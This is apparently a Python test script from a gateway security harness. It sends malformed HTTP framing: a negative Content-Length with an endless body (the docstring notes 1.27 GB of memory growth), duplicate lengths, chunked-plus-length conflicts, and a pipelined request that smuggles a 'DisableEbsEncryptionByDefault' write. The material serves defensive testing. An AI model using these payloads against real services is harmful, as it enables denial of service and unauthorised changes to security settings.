"""Framing the gateway could read otherwise than a server: a negative length with a body that never ends (one
request added 1.27 GB to the service's memory), a list of lengths, chunked beside a length, a write pipelined
behind a read's declared body."""

import socket

import harness.inside.worker
from ._lib import raw, request, result, status

READ = "POST /ec2/us-east-1/ HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/x-www-form-urlencoded\r\n"
BODY = b"Action=DescribeVpcs&Version=2016-11-15"
WRITE = b"Action=DisableEbsEncryptionByDefault&Version=2016-11-15"


def endless(head: bytes) -> str:
    """A head, then body bytes until the gateway stops reading (at most 256 MiB)."""
    link = harness.inside.worker.LINK
    line = socket.socket(socket.AF_UNIX)
    line.settimeout(10)
    sent = 0
    try:
        line.connect(link._socket_path)
        line.sendall(link._preamble + head)
        chunk = b"Action=DisableEbsEncryptionByDefault&" * 1800
        while sent < 256 * 1024 * 1024:
            line.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass
    finally:
        line.close()
    return f"sent {sent >> 20} MiB"


async def run(session, context, logger):
    seen = [endless(f"{READ}Content-Length: -1\r\n\r\n".encode())]
    for extra in (f"Content-Length: {len(BODY)}, {len(BODY)}", f"Transfer-Encoding: chunked\r\nContent-Length: {len(BODY)}"):
        seen.append(status(raw(f"{READ}{extra}\r\n\r\n".encode() + BODY)))
    smuggled = request("POST", "/ec2/us-east-1/", {"Content-Type": "application/x-www-form-urlencoded"}, WRITE)
    seen.append(status(raw(f"{READ}Content-Length: {len(BODY)}\r\n\r\n".encode() + BODY + smuggled)))
    return result("framing_03", f"seen:{seen}")
